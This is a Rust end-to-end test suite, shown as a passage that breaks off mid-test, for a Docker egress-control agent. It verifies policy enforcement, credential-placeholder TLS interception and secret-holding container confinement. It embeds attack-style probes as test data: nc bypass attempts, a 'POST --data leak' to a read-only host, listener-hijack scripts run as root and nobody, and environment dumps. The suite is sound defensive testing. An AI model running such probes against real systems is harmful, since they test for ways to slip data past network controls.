//! Docker end to end: a private dockerd (see `egress_tests::docker`), the real daemon
//! (`egress-agent run`, its own process so it can be killed and restarted; events are read through
//! its control API with `egress-agent events`), real containers from a local busybox image. Every network check talks only to addresses inside the
//! test's namespace and its 198.18.0.0/24 network:
//!
//! - `198.18.0.1:9000` — the canary: a TCP listener on the "host" side (the dockerd netns) that
//!   counts what *arrived*;
//! - `198.18.0.10:8080` — the upstream: an unlabelled httpd container, `allowed.test` in the
//!   agent's hosts file, reachable for policy `web` through `allow_cidrs`;
//! - `169.254.100.1:3128` — the stable proxy endpoint.
use std::io::Read;
use std::net::TcpStream;
use std::time::{Duration, Instant};

use egress_tests::canary::Canary;
use egress_tests::docker::{
    DIRECT_IP, Env, GATEWAY, IMAGE, PROXY, SERIAL, UPSTREAM_IP, cgroup2_mount, require_root, sh_ok,
};
use egress_tests::upstreams::{Dnsmasq, TempDir, TestCa, WebServer};

fn env_new() -> Env {
    Env::new(&[
        std::path::Path::new(env!("CARGO_BIN_EXE_egress-test-rawsend")),
        std::path::Path::new(env!("CARGO_BIN_EXE_egress-probe")),
        // Debian's curl (its libraries come along), for the TLS interception check.
        std::path::Path::new("/usr/bin/curl"),
    ])
}

const DIRECT: &str = "nc -w 2 198.18.0.1 9000 </dev/null && echo DIRECT-OK || echo DIRECT-FAIL";

fn via_proxy(host: &str) -> String {
    format!(
        "(printf 'GET http://{host}:8080/ HTTP/1.1\\r\\nHost: {host}:8080\\r\\nConnection: close\\r\\n\\r\\n'; sleep 2) | nc -w 5 169.254.100.1 3128"
    )
}

fn lock() -> std::sync::MutexGuard<'static, ()> {
    SERIAL.lock().unwrap_or_else(|p| p.into_inner())
}

#[test]
fn policies_labels_and_events() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let mut env = env_new();

    // Unlabelled: untouched (allow_all), direct connections arrive.
    let before = env.canary.count();
    let out = env.run_out(&[], DIRECT);
    assert!(
        out.contains("DIRECT-OK"),
        "unlabelled container must be untouched: {out}"
    );
    assert!(
        env.canary.count() > before,
        "unlabelled direct connection did not arrive"
    );

    // deny_all: nothing at all, not even the proxy endpoint (the kernel refuses it).
    let before = env.canary.count();
    let out = env.run_out(
        &["--label", "egress.policy=deny_all"],
        &format!("{DIRECT}; {}", via_proxy("allowed.test")),
    );
    assert!(
        out.contains("DIRECT-FAIL") && !out.contains("DIRECT-OK"),
        "deny_all direct: {out}"
    );
    assert!(
        out.contains("169.254.100.1): Operation not permitted"),
        "deny_all: proxy endpoint must be refused: {out}"
    );
    assert!(!out.contains("hello-upstream"), "{out}");
    assert_eq!(
        env.canary.count(),
        before,
        "deny_all: a direct connection arrived"
    );

    // Named allowlist: the allowed host end to end through the proxy, a denied one 403, no direct.
    let before = env.canary.count();
    let out = env.run_out(
        &[
            "--name",
            "web-1",
            "--label",
            "egress.policy=web",
            "--label",
            "egress.repo=org/repo",
            "--label",
            "egress.run=77",
        ],
        &format!(
            "wget -q -O- http://allowed.test:8080/; {}; {DIRECT}",
            via_proxy("denied.test")
        ),
    );
    assert!(
        out.contains("hello-upstream"),
        "allowed host through the proxy: {out}"
    );
    assert!(out.contains("403"), "denied host must get 403: {out}");
    assert!(
        out.contains("DIRECT-FAIL") && !out.contains("DIRECT-OK"),
        "{out}"
    );
    assert_eq!(
        env.canary.count(),
        before,
        "web: a direct connection arrived"
    );
    // The kernel's denial event names the container and carries its context labels.
    assert!(
        env.wait_event(
            |e| e["source"] == "kernel"
                && e["container"]["name"] == "web-1"
                && e["context"]["repo"] == "org/repo"
                && e["context"]["run"] == "77"
                && e["policy"] == "web"
                && e["port"] == 9000,
            Duration::from_secs(5)
        ),
        "no kernel denial event with container name and context: {:?}",
        env.events()
    );

    // Inline allowlist: only its hosts; 198.18/15 is not in its (empty) allow_cidrs, so even the
    // allowed name is refused at dial time — but for a different reason than a foreign host.
    let out = env.run_out(
        &[
            "--label",
            "egress.allow_hosts=allowed.test",
            "--label",
            "egress.allow_ports=8080",
        ],
        &format!(
            "{}; echo; {}; echo; {DIRECT}",
            via_proxy("allowed.test"),
            via_proxy("denied.test")
        ),
    );
    assert!(
        out.contains("host-not-allowed"),
        "inline: denied.test must be host-not-allowed: {out}"
    );
    assert!(
        out.contains("address-denied"),
        "inline: allowed.test resolves to a private address: {out}"
    );
    assert!(out.contains("DIRECT-FAIL"), "{out}");

    // Invalid labels: deny_all, and an event saying why.
    let out = env.run_out(
        &["--name", "bad-1", "--label", "egress.policy=nope"],
        &format!("{DIRECT}; {}", via_proxy("allowed.test")),
    );
    assert!(
        out.contains("DIRECT-FAIL") && !out.contains("hello-upstream"),
        "invalid label must be deny_all: {out}"
    );
    assert!(
        env.wait_event(
            |e| e["source"] == "agent"
                && e["container"]["name"] == "bad-1"
                && e["policy"] == "deny_all"
                && e["reason"].as_str().is_some_and(
                    |r| r.starts_with("labels-invalid") && r.contains("unknown policy")
                ),
            Duration::from_secs(5)
        ),
        "no labels-invalid event: {:?}",
        env.events()
    );
    // A typo never means "unlabelled".
    let out = env.run_out(&["--label", "egress.polcy=web"], DIRECT);
    assert!(
        out.contains("DIRECT-FAIL"),
        "typo label must be deny_all: {out}"
    );

    // A second container can't use the first's policy: a deny_all container trying every
    // proxy listener directly gets nowhere.
    env.start_ok(
        "web-long",
        &["--label", "egress.policy=web"],
        &["sleep", "600"],
    );
    assert!(env.wait_enforced("web-long", 2));
    let out = env.exec_out("web-long", "wget -q -O- -Y on http://allowed.test:8080/");
    assert!(
        out.contains("hello-upstream"),
        "web-long through the proxy: {out}"
    );
    let ports = env.listener_ports();
    assert!(!ports.is_empty(), "no proxy listeners found");
    let script: String = ports
        .iter()
        .map(|p| {
            format!(
                "printf 'GET http://allowed.test:8080/ HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\n\\r\\n' | nc -w 2 169.254.100.1 {p}; "
            )
        })
        .collect();
    let out = env.run_out(&["--label", "egress.policy=deny_all"], &script);
    assert!(
        !out.contains("hello-upstream"),
        "deny_all container used another container's listener: {out}"
    );

    interception_in_a_labelled_container(&mut env);
}

/// TLS interception for a labelled container (#12 item 5): the container holds the placeholder
/// and trusts the agent's CA (its bundle mounted read-only over the image's, as the `docker run`
/// line for Debian-based images in docs/policy.md, "Credentials", does); a TLS
/// upstream of the test's own (own CA, on the gateway address in dockerd's namespace) receives
/// the real secret; a host of the same policy without binding is passed through (curl sees the
/// upstream's own certificate). `[intercept]` takes a restart, so the daemon is restarted once.
fn interception_in_a_labelled_container(env: &mut Env) {
    use egress_tests::tls_upstream::{TestCa, Upstream};
    use std::os::unix::fs::PermissionsExt;
    const SECRET: &str = "sk-docker-Jr8Wq2Vn6Tx4-never-inside";
    const PH: &str = "egress-ph-docker-5eed";
    let ca = TestCa::new();
    let up = Upstream::start_in(
        &ca,
        &["api.test", "pass.test", "ro.test"],
        "198.18.0.1:8443".parse().expect("test value"),
        &env.d.netns.path(),
    );
    let dir = env.dir.clone();
    std::fs::write(dir.join("upstream-ca.pem"), &ca.pem).expect("upstream CA");
    let secret = dir.join("secret");
    std::fs::write(&secret, SECRET).expect("secret");
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let hosts = std::fs::read_to_string(dir.join("hosts")).expect("hosts");
    std::fs::write(
        dir.join("hosts"),
        format!("{hosts}198.18.0.1 api.test\n198.18.0.1 pass.test\n198.18.0.1 ro.test\n"),
    )
    .expect("hosts");
    let d = dir.display();
    env.write_config(&env.config_text(&format!(
        r#"[intercept]
upstream_ca_file = "{d}/upstream-ca.pem"

[policies.web]
allow_hosts = ["allowed.test"]
allow_ports = [8080]
allow_cidrs = ["{UPSTREAM_IP}/32"]
[policies.canary]
allow_cidrs = ["198.18.0.1/32"]

[policies.agent]
allow_hosts = ["api.test", "pass.test", {{ host = "ro.test", access = "read-only" }}]
allow_ports = [8443]
resolve_private = ["198.18.0.1/32"]
[[policies.agent.credentials]]
host = "api.test"
port = 8443
header = "authorization"
prefix = "Bearer "
source = {{ file = "{d}/secret" }}
placeholder = "{PH}"
placeholder_env = "API_KEY"
require = true
"#
    )));
    env.kill_agent();
    env.start_agent();
    let out = env.run_out(
        &[
            "--label",
            "egress.policy=agent",
            "-e",
            &format!("API_KEY={PH}"),
            "-e",
            "HTTPS_PROXY=http://169.254.100.1:3128",
            // docs/policy.md's `docker run` line for Debian-based images ("Credentials").
            "-v",
            &format!("{d}/state/ca-bundle.pem:/etc/ssl/certs/ca-certificates.crt:ro"),
            "-e",
            "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt",
            "-v",
            &format!("{d}/upstream-ca.pem:/upstream-ca.pem:ro"),
        ],
        r#"C="curl -sS --max-time 15"
echo "== bound"; $C -H "Authorization: Bearer $API_KEY" https://api.test:8443/v1/docker
echo; echo "== missing"; $C -o /dev/null -w "%{http_code}\n" https://api.test:8443/v1/docker-missing
echo "== pass"; $C -v --cacert /upstream-ca.pem https://pass.test:8443/v1/docker-pass 2>&1
echo; echo "== pass-agent-ca"; $C https://pass.test:8443/v1/docker-pass-agent-ca 2>&1; echo "rc=$?"
echo "== t-bound"; $C --noproxy '*' -H "Authorization: Bearer $API_KEY" https://api.test:8443/v1/docker-t
echo; echo "== t-missing"; $C --noproxy '*' -o /dev/null -w "%{http_code}\n" https://api.test:8443/v1/docker-t-missing
echo "== reflect"; $C -H "Authorization: Bearer $API_KEY" https://api.test:8443/reflect/docker
echo "== t-reflect"; $C --noproxy '*' -H "Authorization: Bearer $API_KEY" https://api.test:8443/reflect/docker-t
echo "== ro-get"; $C https://ro.test:8443/v1/ro-get
echo; echo "== ro-post"; $C -o /dev/null -w "%{http_code}\n" -X POST --data leak https://ro.test:8443/v1/ro-post
echo "== t-ro-get"; $C --noproxy '*' https://ro.test:8443/v1/ro-get-t
echo; echo "== t-ro-put"; $C --noproxy '*' -o /dev/null -w "%{http_code}\n" -X PUT --data leak https://ro.test:8443/v1/ro-put-t
echo "== env"; env"#,
    );
    let r = up
        .request("/v1/docker")
        .unwrap_or_else(|| panic!("the upstream never got the request:\n{out}\n{}", env.log()));
    assert_eq!(
        r.header("authorization"),
        Some(format!("Bearer {SECRET}").as_str()),
        "{r:?}"
    );
    assert!(out.contains("upstream-ok HTTP/2.0 /v1/docker"), "{out}");
    // require = true: without the placeholder, refused and never forwarded.
    assert!(
        out.contains("== missing\n403\n") && up.request("/v1/docker-missing").is_none(),
        "{out}"
    );
    // pass.test has no binding: the container sees the upstream's own certificate.
    assert!(
        out.contains("issuer: CN=egress-tests upstream CA")
            && out.contains("upstream-ok HTTP/2.0 /v1/docker-pass"),
        "pass-through: {out}"
    );
    assert!(
        out.contains("rc=60") && up.request("/v1/docker-pass-agent-ca").is_none(),
        "the agent's CA verified a pass-through host: {out}"
    );
    // The same with no proxy variables (`--noproxy '*'`): the kernel redirects the connection
    // to the transparent listener, which intercepts the bound host like a CONNECT to it.
    let r = up.request("/v1/docker-t").unwrap_or_else(|| {
        panic!(
            "transparent: the upstream never got it:\n{out}\n{}",
            env.log()
        )
    });
    assert_eq!(
        r.header("authorization"),
        Some(format!("Bearer {SECRET}").as_str()),
        "{r:?}"
    );
    assert!(out.contains("upstream-ok HTTP/2.0 /v1/docker-t\n"), "{out}");
    assert!(
        out.contains("== t-missing\n403\n") && up.request("/v1/docker-t-missing").is_none(),
        "{out}"
    );
    // A read-only host, through the proxy and transparently: reads arrive, writes are refused
    // and never arrive.
    for path in ["/v1/ro-get", "/v1/ro-get-t"] {
        assert!(
            up.request(path).is_some() && out.contains(&format!("upstream-ok HTTP/2.0 {path}")),
            "read-only {path}: {out}"
        );
    }
    assert!(
        out.contains("== ro-post\n403\n") && up.request("/v1/ro-post").is_none(),
        "{out}"
    );
    assert!(
        out.contains("== t-ro-put\n403\n") && up.request("/v1/ro-put-t").is_none(),
        "{out}"
    );
    // An upstream that echoes the injected header: the container gets the placeholder back.
    for path in ["/reflect/docker", "/reflect/docker-t"] {
        assert!(
            out.contains(&format!("{path} auth=[Bearer {PH}]")),
            "{path}: {out}"
        );
        assert!(up.request(path).is_some(), "{path} never arrived");
    }
    assert!(out.contains(&format!("API_KEY={PH}")), "{out}");
    assert!(!out.contains(SECRET), "the container saw the secret: {out}");
    for r in up.requests() {
        assert!(!r.text().contains(PH), "placeholder upstream: {}", r.text());
    }
    foreign_peers_get_nothing_through_a_containers_listeners(env, &up, PH, SECRET);
    real_keys_in_a_labelled_container(env, SECRET);
}

/// #40 item 6: a labelled container holding a real key in its environment — a provider's key
/// variable and a copy of policy `agent`'s bound secret, shown to a container of policy
/// `canary` — is reported (event naming the variables, `status`, `doctor`) and, once
/// `agent.refuse_workload_secrets = true` is reloaded, confined `deny_all`: its connections to
/// what `canary` allows get nothing through. No value in the events, the status or the log.
fn real_keys_in_a_labelled_container(env: &mut Env, secret: &str) {
    const PROVIDER: &str = "sk-proj-Wq5Ht1Xr8Jd3-never-shown";
    let openai = format!("OPENAI_API_KEY={PROVIDER}");
    let leaked = format!("LEAKED={secret}");
    let holding = [
        "--label",
        "egress.policy=canary",
        "-e",
        openai.as_str(),
        "-e",
        leaked.as_str(),
    ];
    let mut flags = vec!["--name", "holds-1"];
    flags.extend(holding);
    let before = env.canary.count();
    let out = env.run_out(&flags, DIRECT);
    assert!(out.contains("DIRECT-OK"), "reported only: {out}");
    assert!(
        env.canary.count() > before,
        "its allowed connection did not arrive"
    );
    assert!(
        env.wait_event(
            |e| e["reason"] == "workload-holds-secret"
                && e["container"]["name"] == "holds-1"
                && e["policy"] == "canary"
                && e["context"]["variables"].as_str().is_some_and(|v| {
                    v.contains("OPENAI_API_KEY (provider-variable)")
                        && v.contains("LEAKED (bound-secret policies.agent.credentials[0])")
                })
                && e["context"]["action"]
                    .as_str()
                    .is_some_and(|a| a.starts_with("reported")),
            Duration::from_secs(10)
        ),
        "no workload-holds-secret event for holds-1: {:?}",
        env.events()
    );
    // With the setting (a reload applies it): confined deny_all from its first instruction —
    // until the agent has read a container's environment (the inspect that follows `create`,
    // which Docker may answer only after the start), every labelled container is.
    let config = std::fs::read_to_string(env.config_path()).expect("config");
    let refusing = config.replacen("[agent]\n", "[agent]\nrefuse_workload_secrets = true\n", 1);
    env.write_config(&refusing);
    let o = env.cli(&["reload"]);
    assert!(o.status.success(), "reload: {o:?}");
    let mut flags = vec!["--name", "holds-2"];
    flags.extend(holding);
    let before = env.canary.count();
    let out = env.run_out(&flags, &format!("{DIRECT}; sleep 1; {DIRECT}"));
    assert!(
        !out.contains("DIRECT-OK") && out.matches("DIRECT-FAIL").count() == 2,
        "a container holding a real key got out: {out}"
    );
    assert_eq!(env.canary.count(), before, "its connection arrived");
    assert!(
        env.wait_event(
            |e| e["reason"] == "workload-holds-secret"
                && e["container"]["name"] == "holds-2"
                && e["context"]["action"]
                    .as_str()
                    .is_some_and(|a| a.starts_with("confined deny_all")),
            Duration::from_secs(10)
        ),
        "no confining event for holds-2: {:?}",
        env.events()
    );
    // One holding nothing runs under its own policy once its environment is read (its first
    // attempts may come before that: refused, never let through unread).
    let before = env.canary.count();
    let out = env.run_out(
        &["--name", "holds-none", "--label", "egress.policy=canary"],
        &format!(
            "for i in $(seq 100); do if ({DIRECT}) | grep -q DIRECT-OK; then echo CLEAN-OK; break; fi; sleep 0.1; done"
        ),
    );
    assert!(
        out.contains("CLEAN-OK"),
        "a clean container stayed confined: {out}"
    );
    assert!(env.canary.count() > before, "its connection did not arrive");
    // A running one is listed by `status` and `doctor` (names, never values).
    env.start_ok("holds-long", &holding, &["sleep", "600"]);
    let deadline = Instant::now() + Duration::from_secs(10);
    let (status, listed) = loop {
        let o = env.cli(&["status", "--json"]);
        let text = String::from_utf8_lossy(&o.stdout).into_owned();
        let v: serde_json::Value = serde_json::from_str(&text).unwrap_or_default();
        let listed = v["workload_secrets"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|w| w["name"] == "holds-long")
            .cloned();
        if let Some(l) = listed {
            break (text, l);
        }
        assert!(
            Instant::now() < deadline,
            "holds-long not in status: {text}"
        );
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(
        listed["confined"] == true && listed["policy"] == "canary",
        "{listed}"
    );
    let config_path = env.config_path().display().to_string();
    let doctor = env.cli(&["doctor", "--json", "--config", &config_path]);
    let report = String::from_utf8_lossy(&doctor.stdout).into_owned();
    assert!(
        report.contains("workloads.secrets") && report.contains("holds-long"),
        "{report}"
    );
    for (what, text) in [
        ("status", status),
        ("doctor", report),
        ("events", format!("{:?}", env.events())),
        ("log", env.log()),
    ] {
        assert!(
            !text.contains(secret) && !text.contains(PROVIDER),
            "{what} holds a value"
        );
    }
    env.d.docker(&["rm", "-f", "holds-long"]);
    env.write_config(&config);
    let o = env.cli(&["reload"]);
    assert!(o.status.success(), "reload: {o:?}");
}

/// #40 item 1: a labelled container's listeners (explicit, transparent, DNS over TCP on
/// 169.254.100.1) serve only that container. Host processes in the agent's network namespace —
/// root and `nobody` — and an `allow_all` container get nothing back through any listener
/// (CONNECT, absolute-form request, DNS over TCP, TLS with the placeholder), nothing reaches the
/// upstream, and the container's own request still gets the secret.
fn foreign_peers_get_nothing_through_a_containers_listeners(
    env: &mut Env,
    up: &egress_tests::tls_upstream::Upstream,
    ph: &str,
    secret: &str,
) {
    use egress_tests::foreign::{FOREIGN_PY, got_nothing};
    use std::os::unix::fs::PermissionsExt;
    // Started with exactly what `egress-agent wire agent` prints (#40 item 7): the label, the
    // proxy variables, the CA bundle mount, every CA variable and the placeholder.
    let wired = std::process::Command::new(env.agent_bin())
        .args(["wire", "agent", "--config"])
        .arg(env.config_path())
        .output()
        .expect("wire");
    let text = String::from_utf8_lossy(&wired.stdout).into_owned();
    assert!(
        wired.status.success(),
        "wire: {text}{}",
        String::from_utf8_lossy(&wired.stderr)
    );
    let flags: Vec<&str> = text.split_whitespace().filter(|w| *w != "\\").collect();
    assert!(
        flags.contains(&format!("API_KEY={ph}").as_str())
            && flags.contains(&"PIP_CERT=/etc/ssl/certs/ca-certificates.crt"),
        "{text}"
    );
    env.start_ok("agent-long", &flags, &["sleep", "600"]);
    assert!(env.wait_enforced("agent-long", 1), "{}", env.log());
    let script_dir = std::env::temp_dir().join(format!("egress-foreign-{}", std::process::id()));
    std::fs::create_dir_all(&script_dir).expect("dir");
    std::fs::set_permissions(&script_dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let script = script_dir.join("foreign.py");
    std::fs::write(&script, FOREIGN_PY).expect("foreign.py");
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let ports = env.listener_ports();
    assert!(ports.len() >= 3, "the container's listeners: {ports:?}");
    let py = script.display();
    for &port in &ports {
        let l: std::net::SocketAddr = format!("169.254.100.1:{port}").parse().expect("addr");
        let run = format!("/usr/bin/python3 {py} 169.254.100.1 {port} 8443 {ph}");
        let printed = env.d.netns.sh(&run);
        got_nothing("a host process (root)", l, &printed);
        let printed = env.d.netns.sh(&format!(
            "setpriv --reuid=65534 --regid=65534 --clear-groups -- {run}"
        ));
        got_nothing("a host process (nobody)", l, &printed);
        let out = env.run_out(
            &["--label", "egress.policy=allow_all"],
            &format!(
                "curl -sk --max-time 5 --proxy http://169.254.100.1:{port} -H 'Authorization: Bearer {ph}' https://api.test:8443/v1/foreign-c; echo rc=$?; \
                 curl -sk --max-time 5 --connect-to api.test:8443:169.254.100.1:{port} -H 'Authorization: Bearer {ph}' https://api.test:8443/v1/foreign-t; echo rc=$?"
            ),
        );
        assert!(
            !out.contains("upstream-ok") && out.matches("rc=").count() == 2,
            "an allow_all container through {l}: {out}"
        );
    }
    std::fs::remove_dir_all(&script_dir).ok();
    for r in up.requests() {
        assert!(
            !r.text().contains("/v1/foreign"),
            "a foreign peer reached the upstream: {}",
            r.text()
        );
    }
    assert!(
        env.wait_event(
            |e| e["reason"] == "listener-foreign-peer"
                && e["container"]["name"] == "agent-long"
                && e["context"]["peer"].is_string(),
            Duration::from_secs(10)
        ),
        "no listener-foreign-peer event for agent-long"
    );
    // The container's own request is unchanged.
    let out = String::from_utf8_lossy(
        &env.d
            .docker(&[
                "exec",
                "agent-long",
                "sh",
                "-c",
                "curl -sS --max-time 15 -H \"Authorization: Bearer $API_KEY\" https://api.test:8443/v1/own-after-foreign",
            ])
            .stdout,
    )
    .into_owned();
    let r = up
        .request("/v1/own-after-foreign")
        .unwrap_or_else(|| panic!("the container's own request never arrived: {out}"));
    assert_eq!(
        r.header("authorization"),
        Some(format!("Bearer {secret}").as_str()),
        "{r:?}"
    );
    env.d.docker(&["rm", "-f", "agent-long"]);
}

#[test]
fn proxy_denial_event_names_the_container() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let env = env_new();
    let out = env.run_out(
        &[
            "--name",
            "web-2",
            "--label",
            "egress.policy=web",
            "--label",
            "egress.agent=runner-9",
        ],
        &via_proxy("denied.test"),
    );
    assert!(out.contains("403"), "{out}");
    assert!(
        env.wait_event(
            |e| e["source"] == "proxy"
                && e["host"] == "denied.test"
                && e["container"]["name"] == "web-2"
                && e["context"]["agent"] == "runner-9",
            Duration::from_secs(5)
        ),
        "proxy denial event without container name/context: {:?}",
        env.events()
    );
}

#[test]
fn race_first_instruction_is_confined() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let env = env_new();
    let tight_loop = "i=0; while [ $i -lt 40 ]; do nc -w 1 198.18.0.1 9000 </dev/null && echo HIT; i=$((i+1)); done; echo DONE";
    // Control: the same entrypoint unlabelled does reach the canary.
    let before = env.canary.count();
    let out = env.run_out(&[], tight_loop);
    assert!(out.contains("HIT"), "control: {out}");
    assert!(env.canary.count() > before);

    let runs = 15;
    let before = env.canary.count();
    for i in 0..runs {
        let out = env.run_out(&["--label", "egress.policy=deny_all"], tight_loop);
        assert!(
            out.contains("DONE") && !out.contains("HIT"),
            "run {i}: a direct connection succeeded: {out}"
        );
    }
    assert_eq!(
        env.canary.count(),
        before,
        "connections arrived from labelled containers"
    );

    // The entry is there before the first instruction: an allowing policy works at once.
    let mut first_ok = 0;
    for _ in 0..runs {
        let out = env.run_out(
            &["--label", "egress.policy=canary"],
            // -w 3: a missing kernel entry fails at once (EPERM); a SYN held by the L2 guard
            // (no BPF-LSM hook here) until the container is classified is retried after 1 s.
            "nc -w 3 198.18.0.1 9000 </dev/null && echo FIRST-OK",
        );
        if out.contains("FIRST-OK") {
            first_ok += 1;
        }
    }
    eprintln!(
        "pre-start enforcement: {first_ok}/{runs} containers had their policy at the first instruction"
    );
    assert!(
        first_ok * 10 >= runs * 9,
        "policy written before start in only {first_ok}/{runs} runs"
    );
}

#[test]
fn lifecycle_restarts_and_agent_failure() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let mut env = env_new();
    env.start_ok(
        "r1",
        &["--restart", "always", "--label", "egress.policy=web"],
        &["sleep", "3600"],
    );
    assert!(env.wait_enforced("r1", 2));
    let check = |env: &Env, what: &str| {
        let out = env.exec_out(
            "r1",
            &format!("{DIRECT}; wget -q -O- -Y on http://allowed.test:8080/"),
        );
        assert!(
            out.contains("DIRECT-FAIL") && !out.contains("DIRECT-OK"),
            "{what}: direct: {out}"
        );
        assert!(out.contains("hello-upstream"), "{what}: proxy: {out}");
    };
    check(&env, "initial");

    // Container restart: a new cgroup, enforced again.
    let n = env.log().matches("\"name\":\"r1\"").count();
    env.d.docker_ok(&["restart", "-t", "0", "r1"]);
    assert!(env.wait_log(
        |l| l.matches("\"name\":\"r1\"").count() > n + 1,
        Duration::from_secs(20)
    ));
    check(&env, "after docker restart");

    // Agent kill -9: still confined (pinned programs and entries); the proxy is gone meanwhile.
    let before = env.canary.count();
    env.kill_agent();
    let out = env.exec_out("r1", DIRECT);
    assert!(out.contains("DIRECT-FAIL"), "after kill -9: {out}");
    // A labelled container started while the agent is down: no entry = deny_all.
    let out = env.run_out(&["--label", "egress.policy=canary"], DIRECT);
    assert!(
        out.contains("DIRECT-FAIL"),
        "started while the agent was down: {out}"
    );
    assert_eq!(env.canary.count(), before);

    // Agent restart: adopts the pinned programs (no duplicates) and re-enforces r1.
    let restarted_at = env.log().len();
    env.start_agent();
    let root = cgroup2_mount().join(&env.d.cgroup_parent);
    let f = std::fs::File::open(&root).expect("open root");
    for (name, ty) in [
        (
            "connect4",
            egress_agent::bpf::sys::attach_type::CGROUP_INET4_CONNECT,
        ),
        (
            "sendmsg4",
            egress_agent::bpf::sys::attach_type::CGROUP_UDP4_SENDMSG,
        ),
        (
            "skb egress",
            egress_agent::bpf::sys::attach_type::CGROUP_INET_EGRESS,
        ),
    ] {
        let progs = egress_agent::bpf::sys::query_cgroup_programs(&f, ty).expect("query programs");
        assert_eq!(
            progs.len(),
            1,
            "{name}: programs attached to the root after restart: {progs:?}"
        );
    }
    assert!(
        env.log().contains("adopted"),
        "restart must adopt pinned links"
    );
    check(&env, "after agent restart");
    // The restarted agent replays the last second of Docker events, among them r1's `die` of
    // its `docker restart` above: r1 runs in the cgroup its new entry is for, so that `die` must
    // not release the entry (the kernel would refuse r1 until the `start` after it is applied)
    // nor rebind r1's listener.
    let since_restart = env.log()[restarted_at..].to_owned();
    let r1_lines = |what: &str| {
        since_restart
            .lines()
            .filter(|l| l.contains(what) && l.contains("name\":\"r1\""))
            .map(str::to_owned)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        r1_lines("kernel-no-policy-entry"),
        Vec::<String>::new(),
        "r1 lost its entry after the agent's restart"
    );
    assert_eq!(
        r1_lines("workload proxy listener").len(),
        1,
        "r1's listener rebound after the agent's restart: {:?}",
        r1_lines("workload proxy listener")
    );
    // One listener per opted-in container, none left over from before the restart. After a
    // restart the agent replays the last second of Docker events: a listener for a container that
    // is already gone may exist until its queued `destroy` is applied, so let it settle.
    let deadline = Instant::now() + Duration::from_secs(10);
    while env.listener_ports().len() != Env::TCP_SOCKETS_PER_CONTAINER && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(200));
    }
    assert_eq!(
        env.listener_ports().len(),
        Env::TCP_SOCKETS_PER_CONTAINER,
        "listeners after restart: {:?}",
        env.listener_ports()
    );

    // Docker daemon restart: r1 (restart=always) comes back in a new cgroup, enforced.
    let n = env.log().matches("docker reconcile done").count();
    env.d.restart();
    assert!(
        env.wait_state("r1", "running", Duration::from_secs(60)),
        "r1 did not come back"
    );
    assert!(
        env.wait_log(
            |l| l.matches("docker reconcile done").count() > n,
            Duration::from_secs(30)
        ),
        "agent did not reconcile after the daemon restart"
    );
    std::thread::sleep(Duration::from_millis(500));
    check(&env, "after dockerd restart");
    let before = env.canary.count();
    let out = env.run_out(&["--label", "egress.policy=deny_all"], DIRECT);
    assert!(out.contains("DIRECT-FAIL"), "{out}");
    assert_eq!(env.canary.count(), before);
}

#[test]
fn host_network_privileged_published_ports() {
    if !require_root() {
        return;
    }
    let _g = lock();
    let env = env_new();

    // --network host: confined by cgroup; only the proxy is reachable.
    let before = env.canary.count();
    let o = env.d.docker(&[
        "run",
        "--rm",
        "--network",
        "host",
        "--label",
        "egress.policy=web",
        "-e",
        &format!("http_proxy=http://{PROXY}"),
        IMAGE,
        "sh",
        "-c",
        &format!("{DIRECT}; wget -q -O- http://allowed.test:8080/"),
    ]);
    let out = format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(
        out.contains("DIRECT-FAIL") && !out.contains("DIRECT-OK"),
        "host network direct: {out}"
    );
    assert!(
        out.contains("hello-upstream"),
        "host network through the proxy: {out}"
    );
    assert_eq!(env.canary.count(), before);

    // --privileged opted in: refused (stopped) with an event. Where the test's root lacks a
    // capability (no CAP_SYS_RESOURCE here), runc can't even start it; the agent must still have
    // refused it from the `create` event.
    let o = env.start(
        "priv",
        &["--privileged", "--label", "egress.policy=web"],
        &["sleep", "600"],
    );
    if o.status.success() {
        assert!(
            env.wait_state("priv", "exited", Duration::from_secs(15)),
            "privileged container still running"
        );
    }
    assert!(
        env.wait_refused(
            "priv",
            "refused-unconfinable: privileged",
            Duration::from_secs(5)
        ),
        "no refusal event for the privileged container: {:?}",
        env.events()
    );
    // CAP_NET_ADMIN runs here: it must be stopped.
    env.start_ok(
        "netadmin",
        &["--cap-add", "NET_ADMIN", "--label", "egress.policy=web"],
        &["sleep", "600"],
    );
    assert!(
        env.wait_state("netadmin", "exited", Duration::from_secs(15)),
        "CAP_NET_ADMIN container still running"
    );
    assert!(env.wait_refused("netadmin", "cap-add NET_ADMIN", Duration::from_secs(5)));
    // Unlabelled privileged containers are not the agent's business.
    env.start_ok(
        "netadmin-unlabelled",
        &["--cap-add", "NET_ADMIN"],
        &["sleep", "600"],
    );
    std::thread::sleep(Duration::from_secs(2));
    assert!(env.wait_state("netadmin-unlabelled", "running", Duration::from_secs(1)));

    // An opted-in container whose cgroup is outside the enforcement root: refused.
    let elsewhere = format!("/egress-test-{}-elsewhere", std::process::id());
    env.start_ok(
        "elsewhere",
        &[
            "--cgroup-parent",
            &elsewhere,
            "--label",
            "egress.policy=web",
        ],
        &["sleep", "600"],
    );
    assert!(
        env.wait_state("elsewhere", "exited", Duration::from_secs(15)),
        "container outside the root still running"
    );
    assert!(env.wait_refused("elsewhere", "refused-cgroup-parent", Duration::from_secs(5)));
    env.d.docker_ok(&["rm", "-f", "elsewhere"]);
    for mount in egress_tests::docker::cgroup_mounts() {
        std::fs::remove_dir(mount.join(elsewhere.trim_start_matches('/'))).ok();
    }

    // Published port of an enforced (deny_all) container: inbound and replies work.
    env.start_ok(
        "pub",
        &["-p", "18080:8080", "--label", "egress.policy=deny_all"],
        &[
            "sh",
            "-c",
            "mkdir -p /www && echo hello-published > /www/index.html && exec httpd -f -p 8080 -h /www",
        ],
    );
    assert!(env.wait_enforced("pub", 2));
    let got = env.d.netns.run(|| {
